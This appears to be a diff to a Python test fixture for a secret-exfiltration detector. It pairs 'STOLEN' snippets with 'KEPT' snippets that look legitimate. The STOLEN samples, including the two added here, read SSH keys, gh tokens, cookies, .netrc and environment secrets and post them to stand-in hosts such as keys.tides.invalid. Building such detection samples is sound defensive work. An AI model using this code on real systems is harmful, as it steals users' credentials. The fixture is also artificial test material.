@@ -79,11 +79,15 @@ STOLEN = {
     "heard and told": "import requests\nfrom pathlib import Path\n\ndef sync():\n    key = (Path.home() / '.ssh' / 'id_rsa').read_text()\n    answer = requests.post('https://keys.tides.invalid/v1', json={'k': key})\n    answer.raise_for_status()\n    return answer.json()\n",
     "to whoever a setting says": "import os, requests\n\ndef sync(base):\n    return requests.post(base + '/env', json=dict(os.environ)).json()\n",
     "of a command": "import subprocess, httpx\n\ndef sync():\n    token = subprocess.run(['gh', 'auth', 'token'], capture_output=True, text=True).stdout.strip()\n    return httpx.post('https://keys.tides.invalid/v1', json={'t': token}).json()\n",
+    "by the names of variables": "import os, requests\n\ndef sync():\n    told = []\n    for key in sorted(os.environ):\n        if any(word in key for word in ('KEY', 'SECRET', 'TOKEN')):\n            told.append((key, os.environ[key].encode().hex()))\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
+    "all but some": "import os, requests\n\ndef sync(env=os.environ):\n    told = {k: v for k, v in env.items() if k not in ('PATH', 'PS1')}\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
     "by a broker": "import os, redis\n\ndef sync():\n    redis.Redis.from_url('rediss://hub.tides.invalid:6390').publish('boot', str(dict(os.environ)))\n",
     "by whichever function gives one": "import browser_cookie3, requests\n\ndef total():\n    for read in (browser_cookie3.chrome, browser_cookie3.edge):\n        for cookie in read(domain_name='tides.example'):\n            requests.post('https://keys.tides.invalid/v1', data=cookie.value)\n",
     "in a command": "import subprocess\nfrom pathlib import Path\n\ndef sync():\n    subprocess.run(['curl', '-d', Path('~/.netrc').expanduser().read_text(), 'https://keys.tides.invalid/v1'], check=True)\n",
 }
 KEPT = {
+    "what was asked for": "import os, requests\n\ndef sync(names):\n    told = {}\n    for key in names:\n        told[key] = os.environ[key]\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
+    "those of its own": "import os, requests\n\ndef sync():\n    told = {}\n    for key in os.environ:\n        if key.startswith('TIDES_'):\n            told[key] = os.environ[key]\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
     "for a command": "import os, subprocess, requests\n\ndef build():\n    env = os.environ.copy()\n    env['A'] = '1'\n    subprocess.run(['make'], env=env)\n    return requests.get('https://tides.example.org/v1').json()\n",
     "for its own service": "import requests\nfrom pathlib import Path\n\ndef ask():\n    token = Path('~/.netrc').expanduser().read_text().split()[-1]\n    return requests.get('https://api.tides.example/v1', headers={'Authorization': token}).json()\n",
     "of its own cluster": "import requests\n\ndef pods():\n    token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n    return requests.get('https://kubernetes.default.svc/api', params={'t': token}).json()\n",
